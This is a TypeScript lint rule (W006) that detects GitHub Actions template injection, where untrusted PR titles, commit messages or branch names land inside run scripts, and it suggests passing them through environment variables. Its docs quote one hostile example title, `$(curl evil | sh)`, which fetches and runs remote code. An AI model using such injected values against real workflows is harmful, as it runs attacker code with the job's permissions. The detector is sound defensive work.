import { child, scalarText } from "../../../tree/formats/yaml-file.ts";
import type { YamlNode } from "../../../tree/formats/yaml-file.ts";
import type { Step } from "../../../tree/workflows/model.ts";
import { input } from "../../../tree/workflows/model.ts";
import { resolvedWorkflows } from "../../../tree/workflows/composite-actions.ts";
import { defineRule, type Rule, type RuleFinding } from "../../engine/rule.ts";
import { environmentFix } from "./views/injection-fix.ts";

/** What strangers write: GitHub's own list of untrusted input, as paths of its contexts. */
const UNTRUSTED =
  /\bgithub\.(?:head_ref\b|event\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|pull_request\.head\.(?:ref|label|repo\.default_branch)|(?:comment|review|review_comment)\.body|pages(?:\.\*|\[\d+\])\.page_name|commits(?:\.\*|\[\d+\])\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests(?:\.\*|\[\d+\])\.head\.ref))\b)/;

/** W006: text of strangers becomes part of a script. */
export const templateInjection: Rule = defineRule({
  code: "W006",
  slug: "template-injection",
  title: "untrusted text becomes part of a script",
  severity: "error",
  scope: "hygiene",
  needs: ["tree"],
  fix: "review",
  docs: {
    what: "`${{ ... }}` with a title, a message or a branch name is inside a script.",
    why: "GitHub inserts the text before the shell reads the script: a title such as `$(curl evil | sh)` runs with the permissions of the job.",
    fix: "pass the value as an environment variable (`env:`) to the script",
    bad: 'run: echo "${{ github.event.head_commit.message }}"',
    good: 'env:\n  MESSAGE: ${{ github.event.head_commit.message }}\nrun: echo "$MESSAGE"',
    peers: ["zizmor:template-injection"],
  },
  async check(inputs) {
    const findings: RuleFinding[] = [];
    for (const { file, jobs } of await resolvedWorkflows(inputs)) {
      for (const job of jobs)
        for (const step of job.steps) {
          const script = scriptOf(step);
          if (script === null) continue;
          const source = file.text.slice(script.start, script.end);
          for (const match of source.matchAll(/\$\{\{(.*?)\}\}/gs)) {
            const untrusted = UNTRUSTED.exec(match[1] ?? "")?.[0];
            if (untrusted === undefined || isHarmless(match[1] ?? "")) continue;
            const start = script.start + match.index;
            const range = { start, end: start + match[0].length };
            const fix = environmentFix(file, job, step, range, match[0]);
            findings.push({
              message: `${untrusted}, which anyone can set, becomes part of a script in the job ${job.id}`,
              location: file.locate(range),
              subject: `${file.path} ${step.place.start} ${untrusted}`,
              ...(fix === null ? {} : { fix }),
            });
          }
        }
    }
    return findings;
  },
});

function scriptOf(step: Step): YamlNode | null {
  if (step.run !== null) return child(step.node, "run");
  const script = step.action === "actions/github-script" ? input(step, "script") : null;
  return scalarText(script) === null ? null : script;
}

/** An expression that yields true or false, or JSON of a function that quotes nothing away, brings no text in. */
function isHarmless(expression: string): boolean {
  const text = expression.trim();
  if (/^(?:contains|startsWith|endsWith|hashFiles)\([^()]*\)$/.test(text)) return true;
  return /(?:==|!=)/.test(text) && !/&&|\|\|/.test(text);
}
